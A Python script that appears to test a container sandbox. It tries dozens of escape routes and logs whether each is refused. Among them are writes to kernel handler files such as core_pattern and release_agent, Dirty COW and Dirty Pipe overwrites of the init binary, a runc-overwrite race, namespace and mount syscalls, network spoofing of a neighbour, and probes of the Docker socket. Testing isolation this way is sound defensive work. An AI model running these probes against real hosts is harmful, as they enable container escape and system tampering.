"""Tries to get out of a container, or at others, and prints a line of JSON for each attempt.

Arguments: a neighbour's IPv4 address. An attempt returns what it got, or nothing; an error is a refusal.
"""
import ctypes
import errno
import fcntl
import json
import os
import platform
import re
import signal
import socket
import stat
import struct
import subprocess
import sys
import threading
import time

neighbour = sys.argv[1]
libc = ctypes.CDLL(None, use_errno=True)
REFUSALS = {errno.EPERM, errno.ENOSYS, errno.EACCES, errno.EAFNOSUPPORT, errno.EPROTONOSUPPORT,
            errno.ESOCKTNOSUPPORT}
ATTEMPTS = []
# Of the server, lent to the container: Docker's, or Podman's.
INIT = next(path for path in ("/sbin/docker-init", "/run/podman-init") if os.path.exists(path))
X86 = platform.machine() == "x86_64"


def attempt(name):
    def add(act):
        ATTEMPTS.append((name, act))
        return act
    return add


def call(number, *arguments):
    """Makes a system call; one that is refused is an OSError, one that only fails got through."""
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    if result >= 0:
        return f"it returned {result}"
    code = ctypes.get_errno()
    if code in REFUSALS:
        raise OSError(code, os.strerror(code))
    return f"it got to the kernel's own checks: {os.strerror(code)}"


def alone(number, *arguments):
    """Makes a system call in a process of its own: whatever it changes, and a filter that kills."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.write(writing, (call(number, *arguments)).encode())
        except OSError as error:
            os.write(writing, f"refused {error.strerror}".encode())
        os._exit(0)
    os.close(writing)
    said = os.read(reading, 4096).decode()
    os.close(reading)
    _, status = os.waitpid(child, 0)
    if os.WIFSIGNALED(status):
        raise OSError(errno.EPERM, signal.Signals(os.WTERMSIG(status)).name)
    if said.startswith("refused "):
        raise OSError(errno.EPERM, said[8:])
    return said


def writes(path, text):
    descriptor = os.open(path, os.O_WRONLY)
    try:
        os.write(descriptor, text.encode())
    finally:
        os.close(descriptor)
    return f"{path} was written"


def refused(path, act):
    """Acts where there is such a path; what is not there cannot be used."""
    if not os.path.lexists(path):
        raise FileNotFoundError(errno.ENOENT, "there is none")
    return act()


# Files of the kernel.
for path, text in {
    "/proc/sys/kernel/core_pattern": "|/tmp/x",
    "/proc/sys/kernel/modprobe": "/tmp/x",
    "/proc/sys/kernel/hostname": "x",
    "/proc/sys/kernel/sysrq": "1",
    "/proc/sys/kernel/panic": "1",
    "/proc/sys/kernel/usermodehelper/inheritable": "4294967295 4294967295",
    "/proc/sys/fs/binfmt_misc/register": ":x:M::x::/tmp/x:",
    "/proc/sys/fs/file-max": "1",
    "/proc/sys/fs/suid_dumpable": "2",
    "/proc/sys/vm/drop_caches": "3",
    "/proc/sys/vm/panic_on_oom": "1",
    "/proc/sys/net/ipv4/ip_forward": "1",
    "/proc/sys/net/ipv4/conf/all/route_localnet": "1",
    "/proc/sys/user/max_user_namespaces": "1",
    "/proc/sysrq-trigger": "h",
    "/proc/irq/default_smp_affinity": "1",
    "/proc/bus/pci/devices": "x",
    "/proc/1/oom_score_adj": "-1000",
    "/proc/self/oom_score_adj": "-1000",
    "/proc/self/uid_map": "0 0 1",
    "/sys/kernel/uevent_helper": "/tmp/x",
    "/sys/kernel/mm/transparent_hugepage/enabled": "never",
    "/sys/kernel/profiling": "1",
    "/sys/module/kernel/parameters/panic": "1",
    "/sys/class/net/eth0/mtu": "1400",
    "/sys/class/net/lo/mtu": "1400",
    "/sys/fs/cgroup/release_agent": "/tmp/x",
    "/sys/fs/cgroup/notify_on_release": "1",
    "/sys/fs/cgroup/cgroup.procs": "0",
    "/sys/fs/cgroup/memory.max": "max",
    "/sys/fs/cgroup/memory/release_agent": "/tmp/x",
    "/sys/fs/cgroup/memory/memory.limit_in_bytes": "-1",
    "/sys/fs/cgroup/devices/devices.allow": "a *:* rwm",
    "/sys/fs/cgroup/pids/pids.max": "max",
    "/sys/fs/cgroup/pids.max": "max",
}.items():
    attempt(f"writing {path}")(lambda path=path, text=text: refused(path, lambda: writes(path, text)))


def reads(path):
    with open(path, "rb") as file:
        data = file.read(4096)
    return f"{len(data)} bytes: {data[:40]!r}" if data.strip(b"\0 \n") else None


for path in ["/proc/kcore", "/proc/kmsg", "/proc/keys", "/proc/timer_list", "/proc/sched_debug",
             "/proc/latency_stats", "/proc/acpi/wakeup", "/proc/scsi/scsi", "/dev/mem", "/dev/kmsg", "/dev/port",
             "/sys/firmware/dmi/tables/DMI", "/sys/kernel/debug/tracing/trace",
             "/sys/kernel/tracing/trace", "/sys/kernel/security/lsm", "/proc/1/../../host/etc/shadow"]:
    attempt(f"reading {path}")(lambda path=path: reads(path))


@attempt("reading the addresses of the kernel's functions")
def _():
    with open("/proc/kallsyms") as file:
        return next((line for line in file if not line.startswith("0" * 16)), None)


@attempt("making a group in the cgroup file system")
def _():
    for root in ["/sys/fs/cgroup", *[f"/sys/fs/cgroup/{name}" for name in os.listdir("/sys/fs/cgroup")]]:
        if os.path.isdir(root):
            try:
                os.mkdir(f"{root}/x")
                # In the folder of the hierarchies a folder is only a folder.
                if os.path.exists(f"{root}/x/cgroup.procs"):
                    return root
            except OSError:
                pass


# Devices.
for name, kind, major, minor in [("the first disk", stat.S_IFBLK, 8, 0), ("a virtual disk", stat.S_IFBLK, 254, 0),
                                 ("a virtual disk of another kind", stat.S_IFBLK, 253, 0),
                                 ("a loop device", stat.S_IFBLK, 7, 0), ("the memory", stat.S_IFCHR, 1, 1),
                                 ("the kernel's log", stat.S_IFCHR, 1, 11), ("a console", stat.S_IFCHR, 4, 1),
                                 ("a serial line", stat.S_IFCHR, 4, 64), ("another's terminal", stat.S_IFCHR, 136, 0),
                                 ("fuse", stat.S_IFCHR, 10, 229), ("kvm", stat.S_IFCHR, 10, 232),
                                 ("a tunnel", stat.S_IFCHR, 10, 200), ("vsock's device", stat.S_IFCHR, 10, 241)]:
    def act(kind=kind, major=major, minor=minor):
        path = "/tmp/device"
        os.mknod(path, kind | 0o600, os.makedev(major, minor))
        try:
            os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
            return "it was made and opened"
        finally:
            os.unlink(path)
    attempt(f"making the device of {name}")(act)


@attempt("opening a device in /dev that is not everybody's")
def _():
    usual = {"null", "zero", "full", "random", "urandom", "tty", "console", "ptmx"}
    for folder, _, names in os.walk("/dev"):
        for name in names:
            path = f"{folder}/{name}"
            mode = os.lstat(path).st_mode
            if (stat.S_ISBLK(mode) or stat.S_ISCHR(mode)) and name not in usual and not folder.startswith("/dev/pts"):
                return path


@attempt("finding a terminal of somebody else's in /dev/pts")
def _():
    mine = set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for link in "0", "1", "2", "255":
            try:
                mine.add(os.readlink(f"/proc/{pid}/fd/{link}"))
            except OSError:
                pass
    mine.add("/dev/pts/ptmx")
    # The session's own is /dev/console as well.
    others = [name for name in os.listdir("/dev/pts") if f"/dev/pts/{name}" not in mine and name != "0"]
    return f"{others}" if others else None


# Mounts and roots.
MOUNT, UMOUNT2, PIVOT_ROOT, CHROOT, SETNS, UNSHARE, CLONE, CLONE3 = (
    (165, 166, 155, 161, 308, 272, 56, 435) if X86 else (40, 39, 41, 51, 268, 97, 220, 435))
for name, source, kind, flags in [("proc", b"proc", b"proc", 0), ("sysfs", b"sysfs", b"sysfs", 0),
                                  ("tmpfs", b"tmpfs", b"tmpfs", 0), ("devtmpfs", b"devtmpfs", b"devtmpfs", 0),
                                  ("cgroup", b"cgroup", b"cgroup", 0), ("cgroup2", b"cgroup2", b"cgroup2", 0),
                                  ("debugfs", b"debugfs", b"debugfs", 0), ("overlay", b"overlay", b"overlay", 0),
                                  ("a bind of /", b"/", b"", 4096), ("/ again, for writing", b"", b"", 32),
                                  ("the first disk", b"/dev/sda", b"ext4", 0)]:
    attempt(f"mounting {name}")(
        lambda source=source, kind=kind, flags=flags: call(MOUNT, source, b"/mnt", kind, flags, 0))
for path in [b"/proc/kcore", b"/proc/sys", b"/sys/firmware", b"/etc/resolv.conf", b"/dev/pts"]:
    attempt(f"unmounting {path.decode()}")(lambda path=path: call(UMOUNT2, path, 2))
attempt("pivot_root")(lambda: call(PIVOT_ROOT, b"/tmp", b"/tmp"))
attempt("chroot, the first step of the way out of one")(lambda: call(CHROOT, b"/tmp"))

# Namespaces.
NAMESPACES = {"user": 0x10000000, "mount": 0x20000, "process": 0x20000000, "network": 0x40000000, "IPC": 0x8000000,
              "host name": 0x4000000, "cgroup": 0x2000000, "time": 0x80}
for name, flag in NAMESPACES.items():
    attempt(f"unshare into a new {name} namespace")(lambda flag=flag: alone(UNSHARE, flag))
    if flag != 0x80:
        attempt(f"clone into a new {name} namespace")(lambda flag=flag: alone(CLONE, flag | 17, 0, 0, 0, 0))
attempt("clone3, whose flags no filter sees")(lambda: alone(CLONE3, 0, 0))
for name in ["mnt", "net", "pid", "user", "uts", "ipc", "cgroup"]:
    attempt(f"entering a {name} namespace by setns")(
        lambda name=name: call(SETNS, os.open(f"/proc/1/ns/{name}", os.O_RDONLY), 0))

# System calls that have no business in a container. Numbers: x86-64, arm64.
for name, numbers, *arguments in [
    ("init_module", (175, 105), 0, 0, b""), ("finit_module", (313, 273), -1, b"", 0),
    ("delete_module", (176, 106), b"x", 0), ("kexec_load", (246, 104), 0, 0, 0, 0),
    ("kexec_file_load", (320, 294), -1, -1, 0, 0, 0), ("reboot", (169, 142), 0, 0, 0, 0),
    ("swapon", (167, 224), b"/tmp", 0), ("swapoff", (168, 225), b"/tmp"), ("acct", (163, 89), b"/tmp/acct"),
    ("quotactl", (179, 60), 0, 0, 0, 0), ("syslog", (103, 116), 3, 0, 0), ("bpf", (321, 280), 0, 0, 0),
    ("perf_event_open", (298, 241), 0, 0, -1, -1, 0), ("userfaultfd", (323, 282), 0),
    ("userfaultfd for user faults only", (323, 282), 1), ("io_uring_setup", (425, 425), 1, 0),
    ("io_uring_enter", (426, 426), -1, 0, 0, 0, 0, 0), ("io_uring_register", (427, 427), -1, 0, 0, 0),
    ("io_setup", (206, 0), 1, 0), ("io_submit", (209, 2), 0, 0, 0), ("add_key", (248, 217), b"user", b"x", b"y", 1, -3),
    ("request_key", (249, 218), b"user", b"x", 0, -3), ("keyctl", (250, 219), 0, -3, 0, 0, 0),
    ("open_by_handle_at", (304, 265), -1, 0, 0), ("fanotify_init", (300, 262), 0, 0),
    ("fanotify_init without rights", (300, 262), 0x200, 0), ("lookup_dcookie", (212, 18), 0, 0, 0),
    ("settimeofday", (164, 170), 0, 0), ("clock_settime", (227, 112), 0, 0),
    ("sethostname", (170, 161), b"x", 1), ("setdomainname", (171, 162), b"x", 1),
    ("vhangup", (153, 58)), ("personality that lets data be run", (135, 92), 0x400000),
    ("kcmp", (312, 272), 1, 1, 0, 0, 0), ("pidfd_getfd", (438, 438), -1, 0, 0),
    ("process_madvise", (440, 440), -1, 0, 0, 0, 0), ("move_pages", (279, 239), 0, 0, 0, 0, 0, 0),
    ("migrate_pages", (256, 238), 0, 0, 0, 0), ("mbind", (237, 235), 0, 0, 0, 0, 0, 0),
    ("set_mempolicy", (238, 237), 0, 0, 0), ("memfd_secret", (447, 447), 0),
    ("fsopen", (430, 430), b"proc", 0), ("fsconfig", (431, 431), -1, 0, 0, 0, 0), ("fsmount", (432, 432), -1, 0, 0),
    ("fspick", (433, 433), -100, b"/", 0), ("open_tree", (428, 428), -100, b"/", 1),
    ("move_mount", (429, 429), -100, b"/", -100, b"/mnt", 0), ("mount_setattr", (442, 442), -100, b"/", 0, 0, 0),
    ("quotactl_fd", (443, 443), -1, 0, 0, 0), ("statmount", (457, 457), 0, 0, 0, 0),
    ("listmount", (458, 458), 0, 0, 0, 0), ("lsm_list_modules", (461, 461), 0, 0, 0),
    ("iopl", (172, None), 3), ("ioperm", (173, None), 0x80, 1, 1), ("modify_ldt", (154, None), 0, 0, 0),
    ("a call that no kernel has yet", (600, 600)),
    ("sockets by the numbers of x32", (0x40000000 + 41, None), 40, 1, 0),
]:
    number = numbers[0 if X86 else 1]
    if number is None:
        continue

    attempt(f"the system call {name}")(lambda number=number, arguments=arguments: alone(number, *arguments))

# Sockets.
ALLOWED_FAMILIES = {socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK}
SOCKET = 41 if X86 else 198
for family in range(48):
    if family not in ALLOWED_FAMILIES:
        def act(family=family):
            for kind in (1, 2, 3, 5, 6):
                for high in (0, 1 << 32):
                    for protocol in (0, 1, 3):
                        descriptor = libc.syscall(ctypes.c_long(SOCKET), ctypes.c_long(high | family),
                                                  ctypes.c_long(kind), ctypes.c_long(protocol))
                        if descriptor >= 0:
                            os.close(descriptor)
                            return f"kind {kind}, protocol {protocol}"
        attempt(f"a socket of family {family}")(act)
for name, kind, protocol in [("raw", 3, 1), ("raw, with headers of one's own", 3, 255), ("packets of old", 10, 0x300),
                             ("SCTP", 1, 132), ("DCCP", 6, 33), ("multipath TCP", 1, 262), ("UDP-Lite", 2, 136)]:
    for family in (socket.AF_INET, socket.AF_INET6):
        attempt(f"an IPv{4 if family == 2 else 6} socket: {name}")(
            lambda family=family, kind=kind, protocol=protocol: repr(socket.socket(family, kind, protocol)))
for name, protocol in [("packet filters", 12), ("audit", 9), ("kernel events", 15), ("IPsec", 6), ("generic", 16),
                       ("processes", 11), ("SELinux", 7), ("ciphers", 21)]:
    attempt(f"a netlink socket: {name}")(
        lambda protocol=protocol: repr(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol)))


def route_request(kind, payload):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:
        header = struct.pack("=IHHII", 16 + len(payload), kind, 0x5 | 0x400 | 0x200, 1, 0)
        link.send(header + payload)
        code = struct.unpack("=i", link.recv(4096)[16:20])[0]
    if code == 0:
        return "done"
    raise OSError(-code, os.strerror(-code))


index = lambda: socket.if_nametoindex("eth0")
attempt("taking the neighbour's address")(lambda: route_request(20, struct.pack("=BBBBI", 2, 24, 0, 0, index())
        + struct.pack("=HH", 8, 2) + socket.inet_aton(neighbour) + struct.pack("=HH", 8, 1) + socket.inet_aton(neighbour)))
attempt("writing the neighbour's address into the table of neighbours")(lambda: route_request(28,
        struct.pack("=BxxxiHBB", 2, index(), 0x80, 0, 0) + struct.pack("=HH", 8, 1) + socket.inet_aton(neighbour)
        + struct.pack("=HH6sxx", 10, 2, b"\2\0\0\0\0\1")))
attempt("adding a route")(lambda: route_request(24, struct.pack("=BBBBBBBBI", 2, 32, 0, 0, 254, 3, 0, 1, 0)
        + struct.pack("=HH", 8, 1) + socket.inet_aton("192.0.2.1") + struct.pack("=HHI", 8, 4, index())))
attempt("making a network device")(lambda: route_request(16, struct.pack("=BxHiII", 0, 0, 0, 0, 0)
        + struct.pack("=HH6sxx", 10, 3, b"dummy\0")))


@attempt("changing the network card's own address")
def _():
    request = struct.pack("16sH6s", b"eth0", 1, b"\2\0\0\0\0\1")
    fcntl.ioctl(socket.socket(), 0x8924, request)
    return "changed"


@attempt("listening to all that comes to the network card")
def _():
    request = struct.pack("16sh", b"eth0", 0x100)
    fcntl.ioctl(socket.socket(), 0x8914, request)
    return "set"


@attempt("reading the packet filters by a socket's option")
def _():
    return repr(socket.socket(socket.AF_INET).getsockopt(0, 64, 84))


# The neighbour, and whoever else is near.
@attempt("a connection to the neighbour's port, IPv4")
def _():
    socket.create_connection((neighbour, 8000), 2)
    return "it answered"


@attempt("a connection to a closed port of the neighbour's")
def _():
    try:
        socket.create_connection((neighbour, 9), 2)
    except ConnectionRefusedError:
        return "it was refused, by the neighbour itself"


@attempt("a datagram to the neighbour")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(b"hi", (neighbour, 8001))
        return repr(s.recv(10))


@attempt("a broadcast that the neighbour answers")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.settimeout(2)
        for address in ("255.255.255.255", neighbour.rsplit(".", 2)[0] + ".255.255", "224.0.0.1"):
            s.sendto(b"hi", (address, 8001))
        return repr(s.recv(10))


@attempt("a multicast by IPv6's local addresses that the neighbour answers")
def _():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.sendto(b"hi", ("ff02::1", 8001, 0, index()))
        return repr(s.recv(10))


@attempt("an echo request to all, by IPv6")
def _():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, 58) as s:
        s.settimeout(2)
        s.sendto(b"\x80\0\0\0\0\1\0\1", ("ff02::1", 0, 0, index()))
        own = set()
        with open("/proc/net/if_inet6") as file:
            own = {line.split()[0] for line in file}
        while True:
            _, address = s.recvfrom(100)
            host = socket.inet_pton(socket.AF_INET6, address[0].split("%")[0]).hex()
            if host not in own:
                return address[0]


@attempt("an abstract socket of the neighbour's or the server's")
def _():
    try:
        socket.socket(socket.AF_UNIX).connect("\0ttygate-neighbour")
        return "connected"
    except ConnectionRefusedError:
        with open("/proc/net/unix") as file:
            others = [line for line in file if "@" in line]
        return "".join(others) or None


@attempt("the neighbour's shared memory and queues")
def _():
    for path in ("/proc/sysvipc/shm", "/proc/sysvipc/sem", "/proc/sysvipc/msg"):
        with open(path) as file:
            if len(file.readlines()) > 1:
                return path


@attempt("Docker's own port")
def _():
    with open("/proc/net/route") as file:
        router = next(socket.inet_ntoa(struct.pack("<I", int(line.split()[2], 16)))
                      for line in file if line.split()[1] == "00000000")
    for port in (2375, 2376, 2377, 4243, 7946):
        try:
            socket.create_connection((router, port), 1)
            return f"{router}:{port}"
        except OSError:
            pass


@attempt("Docker's socket, and any other of the server's")
def _():
    for folder, folders, names in os.walk("/"):
        if folder == "/":
            folders[:] = [name for name in folders if name not in ("proc", "sys")]
        for name in names:
            if stat.S_ISSOCK(os.lstat(f"{folder}/{name}").st_mode):
                return f"{folder}/{name}"


# Processes.
@attempt("seeing processes of others")
def _():
    me = os.readlink("/proc/self/ns/pid")
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.readlink(f"/proc/{pid}/ns/pid") != me:
                return pid
        except FileNotFoundError:
            pass
    if not os.readlink("/proc/1/exe").endswith(("docker-init", "podman-init", "tini", "catatonit")):
        return os.readlink("/proc/1/exe")


for name in ["root", "cwd"]:
    @attempt(f"the server's files by way of /proc/1/{name}")
    def _(name=name):
        mine, its = os.stat("/"), os.stat(f"/proc/1/{name}/")
        outside = os.path.realpath(f"/proc/1/{name}/../../../..") != "/"
        return "it leads elsewhere" if outside or (name == "root" and mine.st_ino != its.st_ino) else None


@attempt("a descriptor that the runtime left open, and a way up from it")
def _():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            names = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for name in names:
            try:
                path = f"/proc/{pid}/fd/{name}"
                if stat.S_ISDIR(os.stat(path).st_mode) and os.stat(f"{path}/../../../../../../../../").st_ino != os.stat("/").st_ino:
                    return f"{path}: {os.readlink(path)}"
            except OSError:
                pass


@attempt("attaching a debugger to a process that is not there")
def _():
    for pid in (300000, 4000000):
        if libc.ptrace(16, pid, 0, 0) == 0:
            return str(pid)


@attempt("the container's init for writing, as /proc/1/exe")
def _():
    return writes("/proc/1/exe", "x")


@attempt("the container's init for writing, by its path")
def _():
    return writes(INIT, "x")


@attempt("removing or replacing the container's init")
def _():
    os.symlink("/tmp", "/tmp/link")
    os.rename("/tmp/link", INIT)
    return "replaced"


@attempt("the memory of a read-only mapping of the container's init (Dirty COW's way)")
def _():
    import mmap
    path = INIT
    with open(path, "rb") as file:
        mapping = mmap.mmap(file.fileno(), 4096, mmap.MAP_PRIVATE, mmap.PROT_READ)
    before = mapping[:16]
    address = next(int(line.split("-")[0], 16) for line in open("/proc/self/maps") if path in line)
    stop = time.time() + 1

    def advise():
        while time.time() < stop:
            libc.madvise(ctypes.c_void_p(address), 4096, 4)
    thread = threading.Thread(target=advise)
    thread.start()
    while time.time() < stop:
        try:
            with open("/proc/self/mem", "r+b", buffering=0) as memory:
                memory.seek(address)
                memory.write(b"OWNED")
        except OSError:
            break
    thread.join()
    with open(path, "rb") as file:
        return None if file.read(16) == before else "changed"


@attempt("a page of the container's init by way of a pipe (Dirty Pipe)")
def _():
    path = INIT
    with open(path, "rb") as file:
        before = file.read(16)
        reading, writing = os.pipe()
        size = fcntl.fcntl(writing, 1032)
        for _ in range(size // 4096):
            os.write(writing, b"x" * 4096)
        for _ in range(size // 4096):
            os.read(reading, 4096)
        os.splice(file.fileno(), writing, 1, offset_src=0)
        os.write(writing, b"OWNED")
    with open(path, "rb") as file:
        return None if file.read(16) == before else "changed"


@attempt("the runtime itself for writing, while Docker runs programs in the container")
def _():
    # The test has Docker do so over and over.
    stop = time.time() + 5
    seen = set()
    while time.time() < stop:
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                target = os.readlink(f"/proc/{pid}/exe")
                if "runc" not in target and "memfd" not in target:
                    continue
                seen.add(target)
                held = os.open(f"/proc/{pid}/exe", os.O_RDONLY)
                for _ in range(200):
                    try:
                        descriptor = os.open(f"/proc/self/fd/{held}", os.O_WRONLY)
                        os.write(descriptor, b"#!/tmp/x\n")
                        return target
                    except OSError:
                        pass
                os.close(held)
            except OSError:
                pass


# Rights.
@attempt("a program that is root's and set-user-id")
def _():
    path = "/tmp/setuid"
    subprocess.run(["cp", "/usr/bin/id", path], check=True)
    os.chown(path, 0, 0)
    os.chmod(path, 0o4755)
    os.chmod("/tmp", 0o1777)
    said = subprocess.run([path, "-u"], capture_output=True, text=True, user=65534, group=65534, extra_groups=[])
    return "uid 0" if said.stdout.strip() == "0" else None


for capability in ("sys_admin", "net_raw", "sys_ptrace", "dac_read_search", "mknod", "sys_module"):
    numbers = {"dac_read_search": 2, "net_raw": 13, "sys_module": 16, "sys_ptrace": 19, "sys_admin": 21, "mknod": 27}

    def act(bit=1 << numbers[capability]):
        path = f"/tmp/capable-{bit}"
        subprocess.run(["cp", "/usr/bin/cat", path], check=True)
        os.setxattr(path, "security.capability", struct.pack("<5I", 0x2000001, bit, bit, 0, 0))
        said = subprocess.run([path, "/proc/self/status"], capture_output=True, text=True).stdout
        effective = int(re.search(r"CapEff:\s*(\w+)", said)[1], 16)
        return f"{effective:x}" if effective & bit else None
    attempt(f"a file that gives CAP_{capability.upper()}")(act)

    def act(bit=1 << numbers[capability]):
        header = struct.pack("<Ii", 0x20080522, 0)
        if libc.capset(header, struct.pack("<6I", bit, bit, bit, 0, 0, 0)) == 0:
            return "taken"
        raise OSError(ctypes.get_errno(), "refused")
    attempt(f"taking CAP_{capability.upper()}")(act)

attempt("giving up no_new_privs")(lambda: "gone" if libc.prctl(38, 0, 0, 0, 0) == 0 else None)
attempt("a priority over others")(lambda: f"nice {os.nice(-5)}")
attempt("a real-time priority")(lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)) or "taken")


@attempt("a real-time priority at the disk")
def _():
    return call(251 if X86 else 30, 1, 0, 1 << 13)


@attempt("more open files than the limit")
def _():
    import resource
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard + 1, hard + 1))
    return "more"


@attempt("locking more memory than the limit")
def _():
    size = 1 << 20
    memory = ctypes.create_string_buffer(size)
    if libc.mlock(memory, size) == 0:
        return "locked"


for name in ("trusted.overlay.opaque", "trusted.x"):
    @attempt(f"the attribute {name}, which the server's file system trusts")
    def _(name=name):
        os.makedirs("/tmp/attribute", exist_ok=True)
        os.setxattr("/tmp/attribute", name, b"y")
        return "set"


@attempt("a 32-bit call for a socket to the hypervisor")
def _():
    if not X86:
        raise OSError(errno.ENOSYS, "no such machine")
    with open("/tmp/old.c", "w") as file:
        file.write("""
#define _GNU_SOURCE
#include <stdio.h>
#include <sys/mman.h>
int main(void) {
  unsigned *arguments = mmap(0, 4096, 3, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  arguments[0] = 40; arguments[1] = 1; arguments[2] = 0;
  long result;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(102), "b"(1), "c"(arguments) : "memory");
  printf("%ld\\n", result);
}""")
    subprocess.run(["gcc", "-o", "/tmp/old", "/tmp/old.c"], check=True)
    done = subprocess.run(["/tmp/old"], capture_output=True, text=True)
    if done.returncode < 0:
        raise OSError(errno.EPERM, signal.Signals(-done.returncode).name)
    return done.stdout if int(done.stdout) >= 0 else None


# A try that is refused at once must not look like one that was never made.
print(json.dumps({"attempts": len(ATTEMPTS)}), flush=True)
for name, act in ATTEMPTS:
    try:
        got = act()
        line = {"name": name, "got": got, "how": "nothing came of it"}
    except Exception as error:
        line = {"name": name, "got": None, "how": getattr(error, "strerror", None) or str(error) or type(error).__name__}
        if not isinstance(error, (OSError, ValueError)):
            line["got"] = f"the attempt itself is wrong: {type(error).__name__}: {error}"
    print(json.dumps(line), flush=True)
